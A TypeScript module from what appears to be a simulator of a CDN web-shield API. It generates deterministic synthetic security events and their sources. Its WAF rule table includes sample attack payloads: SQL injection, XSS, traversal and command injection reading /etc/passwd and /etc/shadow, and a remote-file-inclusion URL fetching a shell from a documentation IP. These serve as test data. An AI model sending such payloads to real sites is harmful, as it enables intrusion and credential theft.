/**
 * Shield traffic model. Nothing is stored per event: what happened to a zone in a minute is derived from a hash of
 * (seed, zone, minute) and the zone's configuration, so the metrics overview, the detailed metrics, the event log,
 * the triggered WAF rules and the rate-limit metrics all tell the same story at any clock time, deterministically.
 * Only whole minutes before the clock's current minute have events (the API's ingestion lag). A minute is read with
 * the zone's configuration in force at that minute (zone-history.ts): a setting or an access list written through
 * the API shapes the minutes from its own on, and the earlier ones stay as they were.
 */
import { createRng, type Rng, type ShieldZone, type SimulatorState } from "./seed.js";
import {
  ACTIONS,
  type Action,
  type Attack,
  FEATURES,
  type Feature,
  type RateLimitRule,
  type ZoneTraffic,
} from "./traffic-model.js";
import {
  accessActionFor,
  configAt,
  configKeysBetween,
  liveConfig,
  type ZoneConfig,
  type ZoneEpoch,
} from "./zone-history.js";

export {
  ACTIONS,
  type Action,
  type Attack,
  FEATURES,
  type Feature,
  type RateLimitRule,
  type ZoneTraffic,
} from "./traffic-model.js";

export const MINUTE_MS = 60_000;
export const DAY_MS = 86_400_000;
/** The event log keeps 72 hours. */
export const EVENT_LOG_RETENTION_MS = 72 * 3_600_000;

export type ActionCounts = Record<Action, number>;

export interface MinuteCounts {
  byFeature: Record<Feature, ActionCounts>;
  /** Breaches per rate-limit rule, in the order of `ZoneTraffic.rateLimitRules`. */
  byRateLimitRule: number[];
  /** Fraction of this minute's events that came from the attack. */
  attackShare: number;
}

/** A zone with everything the model reads. */
export interface ZoneModel {
  seed: number;
  zone: ShieldZone;
  traffic: ZoneTraffic;
  /** The configuration in force since the last recorded change (or always, for a zone nobody wrote to). */
  live: ZoneConfig;
  /** The configurations replaced by writes, oldest first. */
  history: readonly ZoneEpoch[];
  /** A short stand-in for everything else the minutes read (seed, zone, baseline, attacks, rate-limit rules). */
  trafficId: number;
}

const trafficIds = new Map<string, number>();
let nextTrafficId = 1;
function trafficIdOf(seed: number, zoneId: number, t: ZoneTraffic): number {
  const key = JSON.stringify([seed, zoneId, t.baselinePerMinute, t.attacks, t.rateLimitRules]);
  let id = trafficIds.get(key);
  if (id === undefined) {
    if (trafficIds.size >= 20_000) trafficIds.clear();
    id = nextTrafficId++;
    trafficIds.set(key, id);
  }
  return id;
}

export function zoneModel(state: SimulatorState, zoneId: number): ZoneModel | undefined {
  const zone = state.shieldZones.find((z) => z.shieldZoneId === zoneId);
  const traffic = state.shieldTraffic.get(zoneId);
  const live = liveConfig(state, zoneId);
  if (zone === undefined || traffic === undefined || live === undefined) return undefined;
  return {
    seed: state.seed,
    zone,
    traffic,
    live,
    history: state.configHistory.get(zoneId) ?? [],
    trafficId: trafficIdOf(state.seed, zoneId, traffic),
  };
}

const configOf = (m: ZoneModel, minute: number): ZoneConfig => configAt(m.history, m.live, minute);

// ---------------------------------------------------------------------------------------------------------------
// Hashing

/** A 32-bit hash of small non-negative integers (minutes since the epoch fit in 32 bits until the year 10136). */
export function hash32(...parts: number[]): number {
  let h = 0x811c9dc5;
  for (const p of parts) {
    h = Math.imul(h ^ (p >>> 0), 0x01000193);
    h ^= h >>> 13;
    h = Math.imul(h, 0x5bd1e995);
    h ^= h >>> 15;
  }
  return h >>> 0;
}

const SALT_COUNTS = 1;
const SALT_CLUSTERS = 2;
const SALT_POOL = 3;

const hex = (rng: Rng, n: number): string =>
  Array.from({ length: n }, () => Math.floor(rng() * 16).toString(16)).join("");

// ---------------------------------------------------------------------------------------------------------------
// Rates

const BASE_SHARE: Record<Feature, number> = {
  waf: 0.35,
  ddos: 0.1,
  rateLimit: 0.15,
  botDetection: 0.35,
  accessLists: 0.05,
};
const ATTACK_SHARE: Record<Feature, number> = {
  waf: 0.16,
  ddos: 0.42,
  rateLimit: 0.2,
  botDetection: 0.2,
  accessLists: 0.02,
};
const FADE_MINUTES = 30;

/** Traffic follows the sun a little: lowest around 03:00 UTC, highest around 15:00. */
function diurnal(minute: number): number {
  const hour = (minute / 60) % 24;
  return 0.75 + 0.25 * Math.sin(((hour - 9) / 24) * 2 * Math.PI);
}

/** The first minute after the attack's last event minute. */
export function attackEndMinute(attack: Attack): number {
  const natural = Math.floor(attack.startedAt / MINUTE_MS) + attack.durationMinutes + FADE_MINUTES;
  return attack.cutAt === undefined ? natural : Math.min(natural, Math.floor(attack.cutAt / MINUTE_MS));
}

/** Threat events per minute of one attack in the given minute (0 outside it). */
export function attackRate(attack: Attack | null, minute: number): number {
  if (attack === null) return 0;
  const t = minute - Math.floor(attack.startedAt / MINUTE_MS);
  if (t < 0 || minute >= attackEndMinute(attack)) return 0;
  const ramp = Math.min(1, (t + 1) / Math.max(1, attack.rampMinutes));
  const fade = t < attack.durationMinutes ? 1 : 1 - (t - attack.durationMinutes) / FADE_MINUTES;
  return attack.peakPerMinute * ramp * fade;
}

/** All of a zone's attacks together in the given minute. */
export const attacksRate = (attacks: readonly Attack[], minute: number): number =>
  attacks.reduce((sum, a) => sum + attackRate(a, minute), 0);

/** A noisy integer around `rate` (never negative; small rates give occasional 1s). */
const noisy = (rng: Rng, rate: number): number =>
  rate <= 0 ? 0 : Math.floor(rate * (0.8 + 0.4 * rng()) + rng());

/** Splits n by weights with cumulative rounding: deterministic, and the parts always add up to n. */
export function splitByWeights(n: number, weights: readonly number[]): number[] {
  const sum = weights.reduce((a, b) => a + b, 0);
  if (n <= 0 || sum <= 0) return weights.map(() => 0);
  const out: number[] = [];
  let acc = 0;
  let given = 0;
  for (const w of weights) {
    acc += w;
    const upTo = Math.round((n * acc) / sum);
    out.push(upTo - given);
    given = upTo;
  }
  return out;
}

const zero = (): ActionCounts => ({ block: 0, challenge: 0, log: 0 });

/** What the zone's events of one minute were, by feature and action (and by rate-limit rule). */
export function minuteCounts(m: ZoneModel, minute: number): MinuteCounts {
  const config = configOf(m, minute);
  if (config.access === null) return detectedCounts(m, config, minute);
  // Deriving these from the minute's clusters costs several times the plain count: each minute once.
  const cacheKey = `${m.trafficId}/${config.id}/${minute}`;
  const hit = handledCache.get(cacheKey);
  if (hit !== undefined) return hit;
  const counts = detectedCounts(m, config, minute);
  // Sources an access list matches are handled by the list: their events move there, whatever took them before.
  const rules = m.traffic.rateLimitRules;
  for (const c of detectedClusters(m, counts, minute)) {
    const action = accessActionFor(config, c.source);
    if (action === null || c.feature === "accessLists") continue;
    counts.byFeature[c.feature][c.action] -= c.count;
    counts.byFeature.accessLists[action] += c.count;
    if (c.feature === "rateLimit") {
      const i = rules.findIndex((r) => String(r.id) === c.ruleId);
      if (i >= 0) counts.byRateLimitRule[i] = (counts.byRateLimitRule[i] ?? 0) - c.count;
    }
  }
  if (handledCache.size >= HANDLED_CACHE_LIMIT) handledCache.clear();
  handledCache.set(cacheKey, counts);
  return counts;
}

/** Minutes with an access list in force, by traffic, configuration and minute (read only once made). */
const handledCache = new Map<string, MinuteCounts>();
const HANDLED_CACHE_LIMIT = 100_000;

/** The minute's events as the zone's settings alone handle them (before any access list takes a source's). */
function detectedCounts(m: ZoneModel, config: ZoneConfig, minute: number): MinuteCounts {
  const rng = createRng(hash32(m.seed, m.zone.shieldZoneId, minute, SALT_COUNTS));
  const base = m.traffic.baselinePerMinute * diurnal(minute);
  const attack = attacksRate(m.traffic.attacks, minute);
  // Per feature (in FEATURES order): ordinary and attack events.
  const b = FEATURES.map((f) => noisy(rng, base * BASE_SHARE[f]));
  const a = FEATURES.map((f) => (attack > 0 ? noisy(rng, attack * ATTACK_SHARE[f]) : 0));
  const [wafB = 0, ddosB = 0, rlB = 0, botB = 0, alB = 0] = b;
  const [wafA = 0, ddosA = 0, rlA = 0, botA = 0, alA = 0] = a;
  const z = config;

  // WAF: nothing when disabled; Log mode logs everything; Block mode blocks all but the log-only rules' matches.
  const waf = zero();
  const wafN = !z.wafEnabled ? 0 : wafB + wafA;
  if (z.wafExecutionMode === 0) waf.log = wafN;
  else {
    waf.block = Math.round(wafN * 0.9);
    waf.log = wafN - waf.block;
  }
  // DDoS: nothing when Off; Log mode logs; sensitivity Challenge challenges all; else mostly blocks.
  const ddos = zero();
  const ddosN = z.dDoSShieldSensitivity === 0 ? 0 : ddosB + ddosA;
  if (z.dDoSExecutionMode === 0) ddos.log = ddosN;
  else if (z.dDoSShieldSensitivity === 4) ddos.challenge = ddosN;
  else {
    ddos.block = Math.round(ddosN * 0.6);
    ddos.challenge = ddosN - ddos.block;
  }
  // Rate limits: each rule's breaches take the rule's action.
  const rules = m.traffic.rateLimitRules;
  const rateLimit = zero();
  let byRateLimitRule: number[] = [];
  if (rules.length > 0) {
    const fromBase = splitByWeights(
      rlB,
      rules.map((r) => r.weight),
    );
    const fromAttack = splitByWeights(
      rlA,
      rules.map((r) => r.attackWeight),
    );
    byRateLimitRule = rules.map((r, i) => {
      const n = (fromBase[i] ?? 0) + (fromAttack[i] ?? 0);
      rateLimit[r.action] += n;
      return n;
    });
  }
  const botDetection = zero();
  if (z.botExecutionMode === 1) botDetection.challenge = botB + botA;
  else botDetection.log = botB + botA;
  const accessLists = { block: alB + alA, challenge: 0, log: 0 };

  const kept = [wafN, ddosN, rules.length > 0 ? rlB + rlA : 0, botB + botA, alB + alA];
  let all = 0;
  let fromAttack = 0;
  kept.forEach((n, i) => {
    const total = (b[i] ?? 0) + (a[i] ?? 0);
    all += n;
    if (total > 0) fromAttack += (n * (a[i] ?? 0)) / total;
  });
  return {
    byFeature: { waf, ddos, rateLimit, botDetection, accessLists },
    byRateLimitRule,
    attackShare: all === 0 ? 0 : fromAttack / all,
  };
}

export function emptyCounts(m: ZoneModel): MinuteCounts {
  return {
    byFeature: { waf: zero(), ddos: zero(), rateLimit: zero(), botDetection: zero(), accessLists: zero() },
    byRateLimitRule: m.traffic.rateLimitRules.map(() => 0),
    attackShare: 0,
  };
}

export function addInto(total: MinuteCounts, c: MinuteCounts): void {
  for (const f of FEATURES) {
    const into = total.byFeature[f];
    const from = c.byFeature[f];
    into.block += from.block;
    into.challenge += from.challenge;
    into.log += from.log;
  }
  for (let i = 0; i < c.byRateLimitRule.length; i++) {
    total.byRateLimitRule[i] = (total.byRateLimitRule[i] ?? 0) + (c.byRateLimitRule[i] ?? 0);
  }
}

const MINUTES_PER_DAY = 1440;
/** Sums of whole past UTC days, keyed by everything the model reads (so a changed setting never hits). */
const dayCache = new Map<string, MinuteCounts>();
const DAY_CACHE_LIMIT = 20_000;

function fingerprint(m: ZoneModel, withAttack: boolean, dayMinute: number): string {
  return JSON.stringify([
    m.seed,
    m.zone.shieldZoneId,
    configKeysBetween(m.history, m.live, dayMinute, dayMinute + MINUTES_PER_DAY),
    m.traffic.baselinePerMinute,
    withAttack ? m.traffic.attacks : null,
    m.traffic.rateLimitRules,
  ]);
}

/** Whether an attack has events in the day starting at `dayMinute` (else the day's key leaves them out). */
function attackTouches(m: ZoneModel, dayMinute: number): boolean {
  return m.traffic.attacks.some((a) => {
    const start = Math.floor(a.startedAt / MINUTE_MS);
    return start < dayMinute + MINUTES_PER_DAY && attackEndMinute(a) > dayMinute;
  });
}

function daySum(m: ZoneModel, dayMinute: number): MinuteCounts {
  const cacheKey = `${fingerprint(m, attackTouches(m, dayMinute), dayMinute)}@${dayMinute}`;
  const hit = dayCache.get(cacheKey);
  if (hit !== undefined) return hit;
  const total = emptyCounts(m);
  for (let minute = dayMinute; minute < dayMinute + MINUTES_PER_DAY; minute++)
    addInto(total, minuteCounts(m, minute));
  if (dayCache.size >= DAY_CACHE_LIMIT) dayCache.clear();
  dayCache.set(cacheKey, total);
  return total;
}

/** Events of whole minutes in [fromMinute, toMinute), never reaching the clock's current minute. */
export function sumMinutes(m: ZoneModel, fromMinute: number, toMinute: number, now: number): MinuteCounts {
  const total = emptyCounts(m);
  const end = Math.min(toMinute, Math.floor(now / MINUTE_MS));
  let minute = fromMinute;
  while (minute < end) {
    if (minute % MINUTES_PER_DAY === 0 && minute + MINUTES_PER_DAY <= end) {
      addInto(total, daySum(m, minute));
      minute += MINUTES_PER_DAY;
    } else {
      addInto(total, minuteCounts(m, minute));
      minute++;
    }
  }
  return total;
}

// ---------------------------------------------------------------------------------------------------------------
// Sources (who sends the events)

export interface Source {
  ip: string;
  asn: string;
  country: string;
  ja4: string;
  ua: string;
}

interface Pool {
  sources: Source[];
  /** Cumulative Zipf weights for picking (the first sources send the most). */
  cumulative: number[];
}

const ATTACK_ORIGINS: ReadonlyArray<{ country: string; asns: readonly string[]; weight: number }> = [
  { country: "CN", asns: ["AS4134", "AS4837"], weight: 9 },
  { country: "RU", asns: ["AS12389", "AS8359"], weight: 7 },
  { country: "BR", asns: ["AS28573", "AS18881"], weight: 5 },
  { country: "VN", asns: ["AS45899", "AS7552"], weight: 5 },
  { country: "US", asns: ["AS14061", "AS16509", "AS396982"], weight: 4 },
  { country: "IN", asns: ["AS9829", "AS55836"], weight: 3 },
  { country: "ID", asns: ["AS17974"], weight: 3 },
  { country: "NL", asns: ["AS60781", "AS49981"], weight: 2 },
  { country: "UA", asns: ["AS15895"], weight: 2 },
  { country: "IR", asns: ["AS58224"], weight: 2 },
  { country: "TR", asns: ["AS9121"], weight: 1 },
  { country: "DE", asns: ["AS24940", "AS51167"], weight: 1 },
];
const BACKGROUND_ORIGINS: ReadonlyArray<{ country: string; asns: readonly string[]; weight: number }> = [
  { country: "US", asns: ["AS7922", "AS7018", "AS16509"], weight: 6 },
  { country: "DE", asns: ["AS3320", "AS24940"], weight: 3 },
  { country: "GB", asns: ["AS2856", "AS5089"], weight: 3 },
  { country: "FR", asns: ["AS3215", "AS12322"], weight: 2 },
  { country: "SI", asns: ["AS5603"], weight: 1 },
  { country: "JP", asns: ["AS2516", "AS17676"], weight: 2 },
  { country: "BR", asns: ["AS28573"], weight: 1 },
  { country: "IN", asns: ["AS55836"], weight: 1 },
  { country: "CA", asns: ["AS812"], weight: 1 },
  { country: "AU", asns: ["AS1221"], weight: 1 },
];

/** Botnets reuse a handful of TLS stacks. */
const ATTACK_JA4_PREFIXES = [
  "t13d1516h2",
  "t13d1517h2",
  "t12d1209h1",
  "t13d190900",
  "t13i190900",
  "t10d070600",
];
const BROWSER_JA4_PREFIXES = ["t13d1516h2", "t13d1517h2", "t13d1715h2", "q13d0312h3", "t13d2014h2"];

const ATTACK_UAS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
  "python-requests/2.31.0",
  "Go-http-client/1.1",
  "curl/8.4.0",
  "Mozilla/5.0 zgrab/0.x",
  "sqlmap/1.7.11#stable (https://sqlmap.org)",
  // Slack mrkdwn and HTML specials, so that every consumer has to escape what it shows.
  "Mozilla/5.0 <script>alert(1)</script> *bold* _it_ `tick` & <@U123> <!channel>",
];
const BROWSER_UAS = [
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
  "Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Mobile Safari/537.36",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
];

/** Addresses from the documentation ranges only (RFC 5737 / RFC 3849): never a real host. */
function docIpv4(index: number): string {
  const nets = ["192.0.2", "198.51.100", "203.0.113"];
  const net = nets[Math.floor(index / 254) % nets.length] ?? "192.0.2";
  return `${net}.${(index % 254) + 1}`;
}

function pickWeighted<T extends { weight: number }>(rng: Rng, items: readonly T[]): T {
  const sum = items.reduce((a, b) => a + b.weight, 0);
  let r = rng() * sum;
  for (const it of items) {
    r -= it.weight;
    if (r < 0) return it;
  }
  const last = items[items.length - 1];
  if (last === undefined) throw new Error("pick from empty list");
  return last;
}

function pickOne<T>(rng: Rng, items: readonly T[]): T {
  const v = items[Math.floor(rng() * items.length)];
  if (v === undefined) throw new Error("pick from empty list");
  return v;
}

function buildPool(seed: number, zoneId: number, kind: "attack" | "background"): Pool {
  const attack = kind === "attack";
  const rng = createRng(hash32(seed, zoneId, attack ? 1 : 2, SALT_POOL));
  const size = attack ? 160 : 120;
  // The attack pool takes addresses 0..159 of a zone-specific rotation, the background pool the next ones.
  const rotate = Math.floor(rng() * 762);
  const ja4s = (attack ? ATTACK_JA4_PREFIXES : BROWSER_JA4_PREFIXES).map(
    (p) => `${p}_${hex(rng, 12)}_${hex(rng, 12)}`,
  );
  const sources: Source[] = [];
  for (let i = 0; i < size; i++) {
    const origin = pickWeighted(rng, attack ? ATTACK_ORIGINS : BACKGROUND_ORIGINS);
    const v6 = rng() < 0.1;
    const ip = v6
      ? `2001:db8:${hex(rng, 4).replace(/^0+(?=.)/, "")}::${hex(rng, 3).replace(/^0+(?=.)/, "")}`
      : docIpv4((rotate + i + (attack ? 0 : 160)) % 762);
    sources.push({
      ip,
      asn: pickOne(rng, origin.asns),
      country: origin.country,
      // Zipf-ish reuse: a few fingerprints and agents carry most of the attack.
      ja4: ja4s[Math.min(ja4s.length - 1, Math.floor(rng() ** 2 * ja4s.length))] ?? "",
      ua:
        (attack ? ATTACK_UAS : BROWSER_UAS)[
          Math.floor(rng() ** 1.5 * (attack ? ATTACK_UAS : BROWSER_UAS).length)
        ] ?? "",
    });
  }
  const cumulative: number[] = [];
  let acc = 0;
  for (let i = 0; i < size; i++) {
    acc += 1 / (i + 1) ** (attack ? 0.9 : 0.5);
    cumulative.push(acc);
  }
  return { sources, cumulative };
}

const pools = new Map<string, Pool>();

function pool(m: ZoneModel, kind: "attack" | "background"): Pool {
  const key = `${m.seed}/${m.zone.shieldZoneId}/${kind}`;
  let p = pools.get(key);
  if (p === undefined) {
    p = buildPool(m.seed, m.zone.shieldZoneId, kind);
    pools.set(key, p);
  }
  return p;
}

function pickSource(rng: Rng, p: Pool): Source {
  const total = p.cumulative[p.cumulative.length - 1] ?? 0;
  const r = rng() * total;
  let lo = 0;
  let hi = p.cumulative.length - 1;
  while (lo < hi) {
    const mid = (lo + hi) >> 1;
    if ((p.cumulative[mid] ?? 0) > r) hi = mid;
    else lo = mid + 1;
  }
  const s = p.sources[lo];
  if (s === undefined) throw new Error("empty pool");
  return s;
}

/** The extra distinct sources of the size hook: benchmark-range addresses (RFC 2544), private ASNs. */
export function extraSource(i: number): Source {
  const rng = createRng(hash32(i, 0x5ca1e));
  return {
    ip: `198.${18 + Math.floor(i / 65_536)}.${Math.floor(i / 256) % 256}.${i % 256}`,
    asn: `AS${4_200_000_000 + i}`,
    country: ATTACK_ORIGINS[i % ATTACK_ORIGINS.length]?.country ?? "US",
    ja4: `t13d1516h2_${hex(rng, 12)}_${hex(rng, 12)}`,
    ua: `ScaleTestBot/${1 + (i % 9)}.${i}`,
  };
}

// ---------------------------------------------------------------------------------------------------------------
// WAF rules (OWASP CRS ids, names and groups)

export interface WafRuleInfo {
  ruleId: string;
  description: string;
  group: string;
  severity: "CRITICAL" | "WARNING" | "NOTICE";
  urls: readonly string[];
  method: string;
  /** Weight in an attack / in ordinary background noise. */
  attack: number;
  background: number;
}

export const WAF_RULE_INFO: readonly WafRuleInfo[] = [
  {
    ruleId: "942100",
    description: "SQL Injection Attack Detected via libinjection",
    group: "REQUEST-942-APPLICATION-ATTACK-SQLI",
    severity: "CRITICAL",
    urls: ["/search?q=' OR 1=1 --", "/api/v1/products?id=1 UNION SELECT password FROM users", "/login"],
    method: "GET",
    attack: 35,
    background: 2,
  },
  {
    ruleId: "941100",
    description: "XSS Attack Detected via libinjection",
    group: "REQUEST-941-APPLICATION-ATTACK-XSS",
    severity: "CRITICAL",
    urls: [
      "/search?q=<script>alert(1)</script>&page=*2*",
      "/comment",
      "/profile?name=<img src=x onerror=alert(1)>",
    ],
    method: "POST",
    attack: 25,
    background: 1,
  },
  {
    ruleId: "949110",
    description: "Inbound Anomaly Score Exceeded",
    group: "REQUEST-949-BLOCKING-EVALUATION",
    severity: "CRITICAL",
    urls: ["/login", "/api/v1/search", "/wp-login.php"],
    method: "POST",
    attack: 10,
    background: 3,
  },
  {
    ruleId: "913100",
    description: "Found User-Agent associated with security scanner",
    group: "REQUEST-913-SCANNER-DETECTION",
    severity: "CRITICAL",
    urls: ["/wp-login.php", "/.env", "/phpmyadmin/"],
    method: "GET",
    attack: 10,
    background: 5,
  },
  {
    ruleId: "930120",
    description: "OS File Access Attempt",
    group: "REQUEST-930-APPLICATION-ATTACK-LFI",
    severity: "CRITICAL",
    urls: ["/index.php?page=../../../../etc/passwd", "/download?file=..%2f..%2fetc%2fshadow"],
    method: "GET",
    attack: 8,
    background: 1,
  },
  {
    ruleId: "932100",
    description: "Remote Command Execution: Unix Command Injection",
    group: "REQUEST-932-APPLICATION-ATTACK-RCE",
    severity: "CRITICAL",
    urls: ["/cgi-bin/status;id", "/api/v1/ping?host=127.0.0.1;cat /etc/passwd"],
    method: "GET",
    attack: 7,
    background: 1,
  },
  {
    ruleId: "920350",
    description: "Host header is a numeric IP address",
    group: "REQUEST-920-PROTOCOL-ENFORCEMENT",
    severity: "WARNING",
    urls: ["/"],
    method: "GET",
    attack: 5,
    background: 6,
  },
  {
    ruleId: "920420",
    description: "Request content type is not allowed by policy",
    group: "REQUEST-920-PROTOCOL-ENFORCEMENT",
    severity: "CRITICAL",
    urls: ["/api/v1/upload", "/xmlrpc.php"],
    method: "POST",
    attack: 0,
    background: 2,
  },
  {
    ruleId: "931130",
    description: "Possible Remote File Inclusion (RFI) Attack: Off-Domain Reference/Link",
    group: "REQUEST-931-APPLICATION-ATTACK-RFI",
    severity: "CRITICAL",
    urls: ["/index.php?page=http://203.0.113.9/shell.txt?"],
    method: "GET",
    attack: 0,
    background: 1,
  },
];

const WAF_ATTACK_WEIGHTS = WAF_RULE_INFO.map((r) => ({ r, weight: r.attack }));
const WAF_BACKGROUND_WEIGHTS = WAF_RULE_INFO.map((r) => ({ r, weight: r.background }));

export const wafRuleInfo = (ruleId: string): WafRuleInfo | undefined =>
  WAF_RULE_INFO.find((r) => r.ruleId === ruleId);

/** Rule ids of the size hook's extra triggered rules (none collides with a CRS id above). */
export const extraRuleId = (i: number): string => String(910_000 + i * 7);

// ---------------------------------------------------------------------------------------------------------------
// Event clusters: the events of one minute that share every dimension

export interface EventCluster {
  zoneId: number;
  minute: number;
  /** Offset in [0, 1) that spreads this cluster's events within the minute differently from its neighbours. */
  offset: number;
  /** Position within the minute's clusters (for stable event ids). */
  index: number;
  count: number;
  feature: Feature;
  action: Action;
  source: Source;
  /** WAF rule id, rate-limit rule id, or "" for features without rules. */
  ruleId: string;
  url: string;
  method: string;
}

const DDOS_URLS = ["/", "/", "/search", "/api/v1/products", "/cart"];
const BOT_URLS = ["/products", "/products/espresso-grinder", "/pricing", "/search", "/sitemap.xml"];

function urlFor(rng: Rng, feature: Feature, fromAttack: boolean, rule: RateLimitRule | undefined): string {
  switch (feature) {
    case "rateLimit":
      return rule?.path ?? "/";
    case "ddos":
      return fromAttack ? pickOne(rng, DDOS_URLS) : "/";
    case "botDetection":
      return pickOne(rng, BOT_URLS);
    case "accessLists":
      return fromAttack ? "/admin" : "/";
    case "waf":
      return "/";
  }
}

/** The events of one minute, in clusters of identical dimensions. */
export function minuteClusters(m: ZoneModel, minute: number): EventCluster[] {
  const config = configOf(m, minute);
  const clusters = detectedClusters(m, detectedCounts(m, config, minute), minute);
  return config.access === null ? clusters : clusters.map((c) => handledByAccessList(config, c));
}

/** The cluster as an access list that matches its source handles it (feature accessLists, the list's action). */
function handledByAccessList(config: ZoneConfig, c: EventCluster): EventCluster {
  const action = accessActionFor(config, c.source);
  if (action === null || c.feature === "accessLists") return c;
  return { ...c, feature: "accessLists", action, ruleId: "" };
}

/** The clusters of the minute's events as the settings alone handle them (`counts` from detectedCounts). */
function detectedClusters(m: ZoneModel, counts: MinuteCounts, minute: number): EventCluster[] {
  const rng = createRng(hash32(m.seed, m.zone.shieldZoneId, minute, SALT_CLUSTERS));
  const out: EventCluster[] = [];
  const attackPool = pool(m, "attack");
  const backgroundPool = pool(m, "background");
  const emit = (feature: Feature, action: Action, n: number, rule: RateLimitRule | undefined) => {
    if (n <= 0) return;
    const fromAttack = Math.round(n * counts.attackShare);
    for (const [part, attack] of [
      [fromAttack, true],
      [n - fromAttack, false],
    ] as const) {
      if (part <= 0) continue;
      const pieces = Math.min(part, attack ? 12 : 2);
      for (let k = 0; k < pieces; k++) {
        const count = Math.floor(part / pieces) + (k < part % pieces ? 1 : 0);
        const source = pickSource(rng, attack ? attackPool : backgroundPool);
        let ruleId = "";
        let url: string;
        let method = "GET";
        if (feature === "waf") {
          const info = pickWeighted(rng, attack ? WAF_ATTACK_WEIGHTS : WAF_BACKGROUND_WEIGHTS).r;
          ruleId = info.ruleId;
          url = pickOne(rng, info.urls);
          method = info.method;
        } else {
          url = urlFor(rng, feature, attack, rule);
          if (rule !== undefined) ruleId = String(rule.id);
          if (url === "/login" || url === "/cart/checkout") method = "POST";
        }
        out.push({
          zoneId: m.zone.shieldZoneId,
          minute,
          offset: rng(),
          index: out.length,
          count,
          feature,
          action,
          source,
          ruleId,
          url,
          method,
        });
      }
    }
  };
  for (const f of FEATURES) {
    if (f === "rateLimit") continue;
    for (const a of ACTIONS) emit(f, a, counts.byFeature[f][a], undefined);
  }
  m.traffic.rateLimitRules.forEach((rule, i) => {
    emit("rateLimit", rule.action, counts.byRateLimitRule[i] ?? 0, rule);
  });
  return out;
}

/** The size hook's clusters whose minute lies in [fromMinute, toMinute). */
export function extraClusters(
  m: ZoneModel,
  fromMinute: number,
  toMinute: number,
  now: number,
): EventCluster[] {
  const out: EventCluster[] = [];
  const current = Math.floor(now / MINUTE_MS);
  const features: ReadonlyArray<[Feature, Action]> = [
    ["waf", "block"],
    ["ddos", "block"],
    ["botDetection", "challenge"],
  ];
  for (let i = 0; i < m.traffic.extraSources; i++) {
    const minute = current - 1 - (i % 10);
    if (minute < fromMinute || minute >= toMinute) continue;
    const [feature, action] = features[i % features.length] ?? ["waf", "block"];
    const config = configOf(m, minute);
    const cluster: EventCluster = {
      zoneId: m.zone.shieldZoneId,
      minute,
      offset: (i % 97) / 97,
      index: 100_000 + i,
      count: 1 + (i % 3),
      feature,
      action,
      source: extraSource(i),
      ruleId: feature === "waf" ? "949110" : "",
      url: `/probe/${i}`,
      method: "GET",
    };
    out.push(config.access === null ? cluster : handledByAccessList(config, cluster));
  }
  return out;
}

/** All clusters with events in [from, to) (Unix ms), never past the clock's current minute. */
export function clustersBetween(m: ZoneModel, from: number, to: number, now: number): EventCluster[] {
  const fromMinute = Math.floor(from / MINUTE_MS);
  const toMinute = Math.min(Math.ceil(to / MINUTE_MS), Math.floor(now / MINUTE_MS));
  const out: EventCluster[] = [];
  for (let minute = fromMinute; minute < toMinute; minute++) {
    for (const c of minuteClusters(m, minute)) out.push(c);
  }
  for (const c of extraClusters(m, fromMinute, toMinute, now)) out.push(c);
  return out;
}

/** Time of a cluster's j-th event (events are spread over the minute, ascending in j). */
export const eventTime = (c: EventCluster, j: number): number =>
  c.minute * MINUTE_MS + Math.floor(((j + c.offset) * MINUTE_MS) / c.count);

/** The range [first, end) of event indexes of a cluster whose times lie in [from, to). */
export function eventRange(c: EventCluster, from: number, to: number): [number, number] {
  const start = c.minute * MINUTE_MS;
  if (from <= start && to >= start + MINUTE_MS) return [0, c.count];
  let first = 0;
  while (first < c.count && eventTime(c, first) < from) first++;
  let end = first;
  while (end < c.count && eventTime(c, end) < to) end++;
  return [first, end];
}

/** A stable event id (UUID-shaped) for a cluster's j-th event. */
export function eventId(c: EventCluster, j: number): string {
  const a = hash32(c.zoneId, c.minute, c.index, j);
  const b = hash32(a, 0xe7e7);
  const d = hash32(b, c.minute);
  const e = hash32(d, j);
  const x = [a, b, d, e].map((n) => n.toString(16).padStart(8, "0")).join("");
  return `${x.slice(0, 8)}-${x.slice(8, 12)}-4${x.slice(13, 16)}-${"89ab"[e & 3]}${x.slice(17, 20)}-${x.slice(20, 32)}`;
}

/** Bunny PoP codes where the events were served. */
const SERVER_ZONES = ["DE", "UK", "FR", "NY", "LA", "SG", "JP", "SYD", "BR", "WA"];
export const serverZoneFor = (c: EventCluster): string =>
  SERVER_ZONES[hash32(c.zoneId, c.minute, c.index) % SERVER_ZONES.length] ?? "DE";

/** HTTP status the visitor got (a challenge page answers 403 until solved). */
export const statusFor = (feature: Feature, action: Action): number =>
  action === "log" ? 200 : feature === "rateLimit" && action === "block" ? 429 : 403;
